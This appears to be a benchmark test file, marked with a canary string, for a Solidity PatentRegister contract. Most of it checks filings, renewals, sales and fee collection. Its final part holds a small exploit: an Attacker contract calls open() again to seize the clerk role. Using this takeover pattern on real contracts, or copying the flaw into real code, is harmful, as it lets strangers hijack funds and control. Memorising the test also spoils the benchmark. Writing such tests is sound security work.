pragma solidity 0.4.26;

import "./PatentRegister.sol";

// assay-canary-f885998c-58e4-4822-8711-58047974e300

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint private constant START = 1700000000;

    PatentRegister private register;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        register = new PatentRegister();
        register.open(10 ether);
        vm.deal(ANA, 100 ether);
        vm.deal(BEN, 100 ether);
        vm.startPrank(ANA);
        register.file.value(10 ether)("a");
        register.file.value(10 ether)("b");
        register.renew.value(10 ether)(0);
        vm.stopPrank();
        register.collect();
        mallory = new Attacker(register);
    }

    function clerk() public view returns (address) {
        return register.clerk();
    }

    function () external payable {}

    function test_Regular() public {
        require(register.clerk() == address(this) && register.fee() == 10 ether);
        require(register.alive(0) && !register.alive(2) && register.fees() == 0);
        vm.prank(ANA);
        register.ask(1, 3 ether);
        vm.prank(BEN);
        register.buy.value(3 ether)(1);
        (address owner, , uint paidUntil, uint asked) = register.filings(1);
        require(owner == BEN && asked == 0 && register.credit(ANA) == 3 ether);
        vm.prank(ANA);
        register.withdraw();
        require(ANA.balance == 73 ether);
        vm.warp(paidUntil);
        require(!register.alive(1) && register.alive(0));
        vm.prank(BEN);
        register.renew.value(10 ether)(1);
        vm.prank(BEN);
        register.file.value(10 ether)("a");
        require(register.known(ANA, "a") && register.known(BEN, "a") && !register.known(BEN, "b"));
        (, , paidUntil, ) = register.filings(1);
        require(register.alive(1) && paidUntil == START + 730 days);
        uint before = address(this).balance;
        register.collect();
        require(address(this).balance == before + 20 ether && register.fees() == 0);
    }

    function test_RefusesFilings() public {
        vm.startPrank(BEN);
        vm.expectRevert();
        register.file.value(10 ether - 1)("c");
        vm.expectRevert();
        register.renew.value(10 ether)(0);
        vm.expectRevert();
        register.ask(0, 1);
        vm.expectRevert();
        register.ask(2, 1);
        vm.expectRevert();
        register.buy.value(0)(0);
        vm.expectRevert();
        register.buy(2);
        vm.expectRevert();
        register.withdraw();
        vm.expectRevert();
        register.collect();
        vm.stopPrank();
    }

    function test_RefusesOpenings() public {
        vm.prank(BEN);
        register.file.value(10 ether)("c");
        vm.expectRevert();
        register.open(1 ether);
        PatentRegister other = new PatentRegister();
        vm.prank(BEN);
        vm.expectRevert();
        other.file("c");
        vm.expectRevert();
        other.open(0);
        vm.expectRevert();
        other.open(10 ether + 1);
        other.open(10 ether);
    }

    function test_RefusesOwners() public {
        vm.startPrank(ANA);
        vm.expectRevert();
        register.file.value(10 ether)("a");
        vm.expectRevert();
        register.renew.value(10 ether - 1)(0);
        register.renew.value(10 ether)(0);
        register.renew.value(10 ether)(0);
        register.renew.value(10 ether)(0);
        vm.expectRevert();
        register.renew.value(10 ether)(0);
        register.ask(0, 5 ether);
        vm.expectRevert();
        register.buy.value(5 ether - 1)(0);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(register.clerk() == address(mallory));
    }

    function target() public view returns (address) {
        return address(register);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PatentRegister private register;

    constructor(PatentRegister r) public {
        register = r;
    }

    function () external payable {}

    function run() external {
        register.open(5 ether);
    }
}
